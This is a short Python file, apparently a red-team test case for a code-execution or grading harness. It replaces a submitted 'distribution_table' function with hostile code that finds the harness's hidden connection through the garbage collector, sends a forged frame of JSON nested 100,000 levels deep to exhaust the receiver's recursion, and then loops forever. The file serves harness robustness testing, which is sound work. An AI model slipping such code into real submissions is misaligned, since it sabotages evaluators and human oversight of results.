"""Send a frame whose JSON is nested a hundred thousand deep; without a wire, recurse for ever."""

from attack import Attack

ATTACK = Attack(
    gains="time",
    cells={
        "distribution_table": """
def channel():
    import gc
    for value in gc.get_objects():
        if type(value).__name__ == "Channel":
            return value.connection

def distribution_table(logits, temperatures):
    import struct
    wire = channel()
    text = b"[" * 100_000 + b"]" * 100_000
    if wire:
        wire.sendall(struct.pack("<4sII", b"TKG1", len(text), 0) + text)
    while True:
        pass
""",
    },
)
